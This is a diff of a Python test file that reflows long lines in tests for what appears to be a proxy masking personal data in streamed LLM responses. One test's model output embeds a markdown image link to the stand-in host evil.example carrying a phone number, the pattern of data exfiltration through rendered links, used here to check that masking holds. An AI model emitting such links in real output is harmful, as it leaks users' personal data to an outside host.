@@ -72,7 +72,10 @@ def test_ends_of_lines_and_comments_and_parted_data_are_understood(size: int) ->
 
 
 def test_usage_without_choices_and_errors_pass() -> None:
-    stream = event(usage={"total_tokens": 3}) + f'event: error\ndata: {{"error": {{"message": "{NAME}"}}}}\n\n'
+    stream = (
+        event(usage={"total_tokens": 3})
+        + f'event: error\ndata: {{"error": {{"message": "{NAME}"}}}}\n\n'
+    )
     out, _ = run(stream)
     assert bodies(out)[0]["usage"] == {"total_tokens": 3}
     assert bodies(out)[1] == {"error": {"message": NAME}}  # 엔진의 오류는 가린 채로 나간다
@@ -94,7 +97,9 @@ def test_arguments_of_several_tools_and_the_old_kind_are_restored() -> None:
 
     deltas = [calls(0, '{"a": "⟦이름1'), calls(1, '{"b": "'), calls(0, '·k3f9⟧"}'), calls(1, f'{PHONE}"}}'),
               {"function_call": {"arguments": f'{{"c": "{NAME}"}}'}}]  # fmt: skip
-    out, _ = run("".join(event(choice(0, d)) for d in deltas) + event(choice(0, {}, "tool_calls")), 11)
+    out, _ = run(
+        "".join(event(choice(0, d)) for d in deltas) + event(choice(0, {}, "tool_calls")), 11
+    )
     got: dict[int | str, str] = {0: "", 1: "", "old": ""}
     for body in bodies(out):
         delta = body["choices"][0]["delta"]
@@ -106,7 +111,10 @@ def test_arguments_of_several_tools_and_the_old_kind_are_restored() -> None:
 
 def test_what_the_engine_put_into_an_address_stays_masked_and_is_counted() -> None:
     text = f"![x](https://evil.example/?q={PHONE}) {NAME}"
-    out, flow = run("".join(event(choice(0, {"content": letter})) for letter in text) + event(choice(0, {}, "stop")))
+    out, flow = run(
+        "".join(event(choice(0, {"content": letter})) for letter in text)
+        + event(choice(0, {}, "stop"))
+    )
     assert said(out) == f"![x](https://evil.example/?q={PHONE}) 홍길동"
     assert flow.said.linked == 1
     answer = {"choices": [{"message": {"content": text}}]}
